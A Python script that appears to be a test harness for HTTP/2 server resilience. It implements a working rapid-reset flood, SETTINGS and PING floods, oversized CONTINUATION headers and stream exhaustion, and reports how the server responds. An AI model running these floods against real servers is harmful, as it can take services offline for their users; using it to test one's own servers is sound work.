#!/usr/bin/python3
"""A hostile HTTP/2 client, frame by frame (Debian's python3-h2: hyperframe and hpack).

    h2_hostile.py HOST PORT MODE N [PATH]

Connects with TLS (no certificate check), ALPN h2, sends the preface and its SETTINGS, then:

    rapid-reset N    N times: HEADERS for PATH, then RST_STREAM(CANCEL) at once
    settings N       N SETTINGS frames
    ping N           N PING frames
    headers N        one request whose header list is N bytes (in CONTINUATION frames)
    streams N        N requests for PATH, none read
    reset-after N    one request for PATH, RST_STREAM(CANCEL) after N ms, then a PING
    idle N           no request; a PING every 500 ms for N seconds (the report ends early
                     when the server ends the connection)

and prints what the server did, one line: "goaway CODE" if it sent GOAWAY, "closed" if it
closed without one, else "open", followed by counts of the frames it sent ("rst=R
headers=H ping-acks=P settings-acks=S").
"""
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    return s


def request(enc, stream, path, extra=()):
    headers = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
    ] + list(extra)
    return enc.encode(headers)


def get(enc, stream, path):
    """A whole GET on `stream`: one HEADERS frame, END_HEADERS and END_STREAM set."""
    h = HeadersFrame(stream, request(enc, stream, path))
    h.flags.add("END_HEADERS")
    h.flags.add("END_STREAM")
    return h.serialize()


class Reader:
    """Reads the server's frames; counts them."""

    def __init__(self, s):
        self.s = s
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.counts = {"rst": 0, "headers": 0, "ping-acks": 0, "settings-acks": 0}

    def pump(self, seconds):
        end = time.time() + seconds
        self.s.settimeout(0.05)
        while time.time() < end and not self.closed:
            try:
                data = self.s.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buf += data
            while len(self.buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                f.parse_body(memoryview(self.buf[9 : 9 + length]))
                self.buf = self.buf[9 + length :]
                self.seen(f)

    def seen(self, f):
        if isinstance(f, GoAwayFrame):
            self.goaway = f.error_code
        elif isinstance(f, RstStreamFrame):
            self.counts["rst"] += 1
        elif isinstance(f, HeadersFrame):
            self.counts["headers"] += 1
        elif isinstance(f, PingFrame) and "ACK" in f.flags:
            self.counts["ping-acks"] += 1
        elif isinstance(f, SettingsFrame) and "ACK" in f.flags:
            self.counts["settings-acks"] += 1

    def report(self):
        state = (
            f"goaway {self.goaway}"
            if self.goaway is not None
            else ("closed" if self.closed else "open")
        )
        counts = " ".join(f"{k}={v}" for k, v in self.counts.items())
        print(f"{state} {counts}", flush=True)


def send(s, r, data):
    try:
        s.sendall(data)
    except (ConnectionError, ssl.SSLError, OSError):
        # What the server sent before it closed (its GOAWAY) may still be there to read.
        r.pump(0.2)
        r.closed = True


def main():
    host, port, mode, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    path = sys.argv[5] if len(sys.argv) > 5 else "/hello.txt"
    s = connect(host, port)
    r = Reader(s)
    enc = hpack.Encoder()
    if mode == "rapid-reset":
        for i in range(n):
            sid = 1 + 2 * i
            send(s, r, get(enc, sid, path) + RstStreamFrame(sid, error_code=8).serialize())
            if r.closed:
                break
            if i % 100 == 0:
                r.pump(0.001)
    elif mode == "settings":
        for i in range(n):
            send(s, r, SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize())
            if r.closed:
                break
            if i % 1000 == 0:
                r.pump(0.001)
    elif mode == "ping":
        for i in range(n):
            send(s, r, PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
            if r.closed:
                break
            if i % 1000 == 0:
                r.pump(0.001)
    elif mode == "headers":
        block = request(enc, 1, path, [("x-big", "a" * n)])
        first, rest = block[:16384], block[16384:]
        h = HeadersFrame(1, first)
        h.flags.add("END_STREAM")
        frames = []
        if not rest:
            h.flags.add("END_HEADERS")
        frames.append(h.serialize())
        while rest:
            chunk, rest = rest[:16384], rest[16384:]
            c = ContinuationFrame(1, chunk)
            if not rest:
                c.flags.add("END_HEADERS")
            frames.append(c.serialize())
        for f in frames:
            send(s, r, f)
            if r.closed:
                break
    elif mode == "streams":
        # Never read: a window of 0 for every stream's data keeps responses pending.
        for i in range(n):
            send(s, r, get(enc, 1 + 2 * i, path))
            if r.closed:
                break
    elif mode == "reset-after":
        send(s, r, get(enc, 1, path) + WindowUpdateFrame(0, window_increment=1 << 20).serialize())
        r.pump(n / 1000)
        send(s, r, RstStreamFrame(1, error_code=8).serialize())
        send(s, r, PingFrame(0, opaque_data=b"12345678").serialize())
    elif mode == "idle":
        end = time.time() + n
        i = 0
        while time.time() < end and r.goaway is None and not r.closed:
            send(s, r, PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
            i += 1
            r.pump(0.5)
    else:
        sys.exit(f"unknown mode {mode}")
    r.pump(1.0)
    r.report()


main()
